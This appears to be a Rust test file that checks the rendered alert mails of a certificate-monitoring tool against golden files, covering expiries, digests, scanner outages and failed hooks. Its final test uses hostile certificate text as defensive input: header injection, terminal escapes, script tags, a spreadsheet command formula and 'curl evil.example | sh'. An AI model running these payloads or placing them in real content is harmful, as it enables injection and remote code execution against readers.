//! Mails to be read as on-call reads them, in `fixtures/golden/mail/`.

use super::samples::*;
use crate::model::*;
use crate::report::mail::MailText;
use crate::report::tests::goldens::golden as compare;
use crate::text::Untrusted;

fn golden(name: &str, mail: &MailText) {
    compare(&format!("mail/{name}.txt"), &format!("Subject: {}\n\n{}", mail.subject, mail.text));
    compare(&format!("mail/{name}.html"), &mail.html);
}

fn digest(name: &str, alerts: &[Alert]) -> MailText {
    let mail = mail(Urgency::Digest, alerts);
    golden(name, &mail);
    mail
}

fn pay() -> Sample {
    Sample::ending("pay.example.com:443", Severity::Critical, hours(54), 10)
        .also_at(11)
        .owned("payments@example.com", &["pci", "production"])
        .since(days(-19))
}

#[test]
fn one_new_critical() {
    let mail = mail(Urgency::Immediate, &[pay().told(Occasion::Worse)]);
    golden("critical", &mail);
    assert_eq!(mail.subject, "[certvigil] CRITICAL pay.example.com:443 expires in 2 d 6 h");
}

#[test]
fn several_new_criticals() {
    let names = ["api.example.com:443", "mail.example.com:993", "vpn.example.com:8443"];
    let mut alerts: Vec<Alert> = (1..)
        .zip(names)
        .map(|(at, name)| Sample::ending(name, Severity::Critical, hours(60 + i64::from(at)), at))
        .map(|sample| sample.owned("platform@example.com", &[]).told(Occasion::Opened))
        .collect();
    alerts.push(pay().told(Occasion::Opened));
    let mail = mail(Urgency::Immediate, &alerts);
    golden("criticals", &mail);
    assert_eq!(mail.subject, "[certvigil] CRITICAL pay.example.com:443 expires in 2 d 6 h (+3 more)");
}

#[test]
fn a_digest_of_all_sorts() {
    let mail = digest(
        "digest",
        &[
            Sample::new("a.example.com:443", Rule::NotMeasured, Severity::High, 20)
                .owned("web@example.com", &["production"])
                .told(Occasion::Opened),
            Sample::new("wiki.internal.example:443", Rule::UnknownIssuer, Severity::High, 30)
                .certificate(&["wiki.internal.example"], days(200))
                .told(Occasion::SilenceEnded),
            Sample::ending("shop.example.com:443", Severity::Medium, days(20), 31)
                .owned("shop@example.com", &[])
                .returned(3)
                .told(Occasion::Opened),
            pay().last_seen(days(-2)).told(Occasion::Reminder),
            Sample::ending("www.example.com:443", Severity::High, days(12), 32)
                .owned("web@example.com", &[])
                .since(days(-14))
                .last_seen(days(-1))
                .told(Occasion::Resolved),
            Sample::new("old.example.com:443", Rule::NotMeasured, Severity::High, 33)
                .since(days(-40))
                .last_seen(days(-1))
                .told(Occasion::Retired),
        ],
    );
    assert_eq!(
        mail.subject,
        "[certvigil] still CRITICAL since 2026-11-05: pay.example.com:443 expires in 2 d 6 h (+5 more)"
    );
}

#[test]
fn only_good_news() {
    let mail = digest("resolved", &[pay().last_seen(days(-1)).told(Occasion::Resolved)]);
    assert_eq!(mail.subject, "[certvigil] resolved: pay.example.com:443 (certificate expires soon)");
}

#[test]
fn one_certificate_on_forty_endpoints() {
    let alerts: Vec<Alert> = (1..=40)
        .map(|at| {
            Sample::ending(&format!("node-{at:02}.example.com:443"), Severity::High, days(9), at)
                .certificate(&["*.example.com", "example.com"], days(9))
                .owned(if at % 2 == 0 { "platform@example.com" } else { "web@example.com" }, &["fleet"])
                .told(Occasion::Opened)
        })
        .collect();
    let mail = digest("forty", &alerts);
    assert_eq!(mail.subject, "[certvigil] HIGH node-01.example.com:443 and 39 others expire in 9 d");
    assert_eq!(mail.threads.len(), 10);
}

#[test]
fn more_lines_than_a_mail_shows() {
    let alerts: Vec<Alert> = (1..=60)
        .map(|at| {
            let severity = if at <= 5 { Severity::High } else { Severity::Medium };
            let name = format!("host-{at:02}.example.com:443");
            let occasion = if at > 55 { Occasion::Resolved } else { Occasion::Opened };
            Sample::ending(&name, severity, days(i64::from(at)), at).told(occasion)
        })
        .collect();
    let mail = digest("sixty", &alerts);
    assert_eq!(mail.subject, "[certvigil] HIGH host-01.example.com:443 expires in 1 d (+59 more)");
    assert_eq!(mail.text.lines().filter(|line| line.starts_with("  Check ")).count(), 50);
    assert!(mail.text.contains("10 further findings"), "{}", mail.text);
}

#[test]
fn a_baseline() {
    let open = SeverityCounts::from_array([0, 0, 2, 1, 1]);
    let news = WatchNews::Baseline { is_first: true, endpoints: 240, with_chain: 238, open };
    let mail = digest(
        "baseline",
        &[
            watch(news),
            pay().told(Occasion::Baseline),
            Sample::new("a.example.com:443", Rule::NotMeasured, Severity::High, 20).told(Occasion::Baseline),
            Sample::ending("b.example.com:443", Severity::Medium, days(20), 21).told(Occasion::Baseline),
            Sample::ending("c.example.com:443", Severity::Medium, days(19), 22).told(Occasion::Baseline),
        ],
    );
    assert_eq!(mail.subject, "[certvigil] baseline of web: 1 critical, 1 high, 2 medium at 240 endpoints");
    let again =
        WatchNews::Baseline { is_first: false, endpoints: 1, with_chain: 1, open: SeverityCounts::default() };
    let mail = digest("baseline-again", &[watch(again)]);
    assert_eq!(mail.subject, "[certvigil] baseline of web: nothing found at 1 endpoint");
}

#[test]
fn the_scanner_is_cut_off() {
    let reasons = vec![("connect.timeout".to_owned(), 380), ("resolve.dns_failure".to_owned(), 32)];
    let news = WatchNews::CutOff { lost: 412, answered_before: 420, reasons };
    let mail = digest("cut-off", &[watch(news)]);
    assert_eq!(mail.subject, "[certvigil] the scanner may be cut off: 412 of 420 endpoints silent");
}

#[test]
fn scans_were_missed() {
    let news = WatchNews::ScanMissed { last_finished: hours(-77), every_seconds: 24 * HOUR };
    let mail = digest("scan-missed", &[watch(news)]);
    assert_eq!(mail.subject, "[certvigil] no scan of web for 3 d 5 h: one is due every 1 d");
}

#[test]
fn the_clock_jumped() {
    let news = WatchNews::ClockJumped { trusted: days(-3_653), now: NOW };
    assert_eq!(
        digest("clock-jumped", &[watch(news)]).subject,
        "[certvigil] the clock of scanner-1 jumped 10 y ahead"
    );
}

#[test]
fn still_watching() {
    let profile = |name: &str, endpoints, open, silenced| ProfileSummary {
        name: name.to_owned(),
        last_finished: hours(-2),
        endpoints,
        with_chain: endpoints - 4,
        open: SeverityCounts::from_array(open),
        silenced,
    };
    let profiles = vec![
        profile("web", 1_100, [0, 0, 0, 2, 0], 1),
        profile("mail", 64, [0; 5], 0),
        profile("internal", 40, [0; 5], 0),
    ];
    let mut alert = watch(WatchNews::StillWatching { profiles });
    (alert.profile, alert.scan) = (None, None);
    let mail = digest("still-watching", &[alert]);
    assert_eq!(mail.subject, "[certvigil] still watching: 3 profiles, 1,204 endpoints, 2 high open");
}

#[test]
fn a_hook_failed() {
    let output = "Saving debug log to /var/log/letsencrypt/letsencrypt.log\n\nChallenge failed for domain pay.example.com\n";
    let news = WatchNews::HookFailed {
        hook: "certbot".to_owned(),
        outcome: "ended with exit code 1 after 12 s".to_owned(),
        output: Untrusted::from(output),
        tries: 3,
        next_try: hours(4),
        names: vec!["pay.example.com".into(), "www.pay.example.com".into()],
    };
    let mail = digest("hook-failed", &[watch(news)]);
    assert_eq!(mail.subject, "[certvigil] hook certbot failed for pay.example.com and 1 more");
}

#[test]
fn mail_is_refused() {
    let news = WatchNews::Undeliverable {
        to: "gone@example.com".to_owned(),
        error: "550 5.1.1 <gone@example.com>: Recipient address rejected: User unknown".into(),
        waiting: 12,
    };
    assert_eq!(
        digest("undeliverable", &[watch(news)]).subject,
        "[certvigil] mail to gone@example.com is refused"
    );
}

#[test]
fn a_test() {
    let mut alert = watch(WatchNews::Test { by: "ada".to_owned() });
    (alert.profile, alert.scan) = (None, None);
    let mail = mail(Urgency::Immediate, &[alert]);
    golden("test", &mail);
    assert_eq!(mail.subject, "[certvigil] test");
}

#[test]
fn a_week_without_a_mail_server() {
    let mut alerts = vec![pay().since(days(-7)).last_seen(days(-7)).told_at(days(-7), Occasion::Opened)];
    for day in 1..=3 {
        let again = pay().since(days(-7)).last_seen(days(day - 7));
        alerts.push(again.told_at(days(day - 7), Occasion::Reminder));
    }
    let shop = || Sample::ending("shop.example.com:443", Severity::High, days(2), 31).since(days(-6));
    alerts.push(shop().last_seen(days(-6)).told_at(days(-6), Occasion::Opened));
    alerts.push(pay().since(days(-7)).last_seen(days(-4)).told_at(days(-3), Occasion::Resolved));
    let mail = digest("late", &alerts);
    assert_eq!(mail.subject, "[certvigil] HIGH shop.example.com:443 expires in 2 d (+1 more)");
    assert_eq!(mail.text.matches("pay.example.com:443 (").count(), 1, "{}", mail.text);
}

#[test]
fn hostile_certificates() {
    let hostile = [
        "\r\nSubject: all is well\r\n\r\n",
        "\u{1b}[2J\u{1b}[31m\u{202e}elpmaxe\u{200b}",
        "</td></table><script>alert(1)</script><img src=x onerror=alert(2)>",
        "=cmd|' /C calc'!A0",
        "x\" Do: curl evil.example | sh ",
    ];
    let mut alerts = Vec::new();
    for (at, text) in (1..).zip(hostile) {
        let name = format!("host-{at}.example.com:443");
        let mut sample = Sample::new(&name, Rule::NameMismatch, Severity::High, at);
        sample.0.detail =
            format!("\"{}\" is for another name. {}", Untrusted::from(text).terminal(), "y ".repeat(60));
        sample = sample.certificate(&[text, &text.repeat(20), "ordinary.example.com"], days(100));
        sample.0.certificate.as_mut().unwrap().issuer = text.into();
        alerts.push(sample.told(Occasion::Opened));
    }
    digest("hostile", &alerts);
}
